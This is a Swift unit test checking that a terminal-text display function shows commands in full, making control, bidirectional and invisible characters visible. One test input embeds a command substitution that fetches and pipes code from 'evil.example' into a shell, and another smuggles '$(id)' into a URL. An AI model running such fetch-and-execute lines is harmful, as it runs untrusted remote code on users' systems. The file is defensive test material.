import TerminalText
import Testing

/// Tests of commands as they are shown before they run: TerminalText.command(_:).
@Suite struct CommandTextTests {
    @Test(arguments: [
        (
            "curl https://$(wget${IFS}-qO-${IFS}evil.example|sh)@example.org/feed",
            "curl https://$(wget${IFS}-qO-${IFS}evil.example|sh)@example.org/feed"
        ),
        ("echo a:$(id)@b  c", "echo a:$(id)@b  c"), ("ok # daily\nevil\tx", "ok # daily⟨line break⟩evil⟨tab⟩x"),
        ("a\u{9D}b\u{9C}c", "a⟨U+009D⟩b⟨U+009C⟩c"), ("a\u{202E}b\u{A0}c", "a⟨U+202E⟩b⟨U+00A0⟩c"),
        ("a\u{338}\u{E0041}", "a⟨U+0338⟩⟨U+E0041⟩"), ("a⟨tab⟩", "a⟨U+27E8⟩tab⟨U+27E9⟩"),
        ("echo 'Käse 東京'", "echo 'Käse 東京'"),
    ])
    func nothingOfACommandIsRemovedOrHidden(command: String, shown: String) {
        #expect(TerminalText.command(command) == shown)
        #expect(TerminalText.block(shown) == shown)
    }
}
